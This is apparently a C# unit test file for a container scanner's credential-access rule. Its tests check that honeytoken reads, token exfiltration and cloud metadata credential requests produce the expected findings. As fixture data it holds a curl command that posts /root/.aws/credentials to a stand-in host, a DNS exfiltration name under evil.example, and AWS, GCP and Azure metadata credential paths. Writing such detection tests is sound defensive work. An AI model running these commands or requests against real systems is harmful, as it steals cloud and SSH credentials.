using DockerScan.Core.Findings;
using DockerScan.Sentinel.Events;

namespace DockerScan.Scanners.Tests.Sandbox.Analysis.Rules;

public sealed class CredentialAccessRuleTests
{
    [Fact]
    public void Find_TokenSent_IsProof()
    {
        var record = new RecordBuilder().Process(1, "/bin/sh").Process(8, "/usr/bin/curl", "curl -d @/root/.aws/credentials http://x.example", at: 2)
            .Connect(8, "198.18.0.6", 80, "x.example", "http", "POST x.example/", 2.2)
            .Network(new TokenEvent("file-aws", "tcp", "198.18.0.6", 80, 40001, "base64"), 2.3)
            .Inspect(new OpenedEvent("/root/.aws/credentials", "honeytoken", "file-aws"), 2.1);

        var found = TestBehavior.Findings(record, "behavior.credential-access");

        var sent = Assert.Single(found, each => each.Id == "token-sent");
        Assert.Equal((Severity.Critical, "x.example:80"), (sent.Severity, sent.Location));
        Assert.Contains("/usr/bin/curl (pid 8, uid 0): honeytoken file-aws of /root/.aws/credentials, base64, in tcp to 198.18.0.6:80", sent.Evidence, StringComparison.Ordinal);
        Assert.Contains("was sent out", Assert.Single(found, each => each.Id == "token-read").Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Find_TokenInDns_HasAStableLocation()
        => Assert.Equal("dns", Assert.Single(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/a").Dns("afe1827c.evil.example").Network(new TokenEvent("file-ssh", "dns", "10.0.0.2", 53, 0, "hex"), 3), "behavior.credential-access")).Location);

    [Theory]
    [InlineData("/root/.ssh/id_rsa", "file-ssh", Severity.Medium)]
    [InlineData("/root/.aws/credentials", "file-aws", Severity.Medium)]
    public void Find_OnlyRead_IsWeaker(string path, string token, Severity severity)
    {
        var found = Assert.Single(TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Inspect(new OpenedEvent(path, "honeytoken", token), 2), "behavior.credential-access"));

        Assert.Equal(("token-read", severity, path), (found.Id, found.Severity, found.Location));
    }

    [Theory]
    [InlineData("/latest/meta-data/iam/security-credentials/web", 1)]
    [InlineData("/computeMetadata/v1/instance/service-accounts/default/token", 1)]
    [InlineData("/metadata/identity/oauth2/token?resource=x", 1)]
    [InlineData("/latest/meta-data/instance-id", 0)]
    [InlineData("/latest/meta-data/iam/security-credentials/", 0)]
    public void Find_MetadataCredentials_AreTold(string path, int expected)
        => Assert.Equal(expected, TestBehavior.Findings(new RecordBuilder().Process(1, "/a")
            .Connect(1, "169.254.169.254", 80, null, "metadata", "GET " + path, details: new() { ["path"] = path }), "behavior.credential-access").Count);

    [Fact]
    public void Find_SecondRequestOfAConnection_CountsToo()
    {
        var first = new ConnectionEvent { Id = 5, Address = "169.254.169.254", Port = 80, SourcePort = 1, Application = "metadata", Summary = "PUT token", Details = new() { ["path"] = "/latest/api/token" } };
        var record = new RecordBuilder().Process(1, "/a").Network(first, 2).Network(first with { Summary = "GET", Details = new() { ["path"] = "/latest/meta-data/iam/security-credentials/web" } }, 2.1);

        Assert.Contains("asked for /latest/meta-data/iam/security-credentials/web", Assert.Single(TestBehavior.Findings(record, "behavior.credential-access")).Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Find_DotenvOnlyRead_IsOrdinary()
        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/usr/bin/node").Inspect(new OpenedEvent("/app/.env", "honeytoken", "file-env"), 2), "behavior.credential-access"));

    [Fact]
    public void Find_TokenBackToItsService_IsUse()
        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Network(new TokenEvent("awsToken", "tcp", "169.254.169.254", 80, 40001, "plain"), 3), "behavior.credential-access"));
}
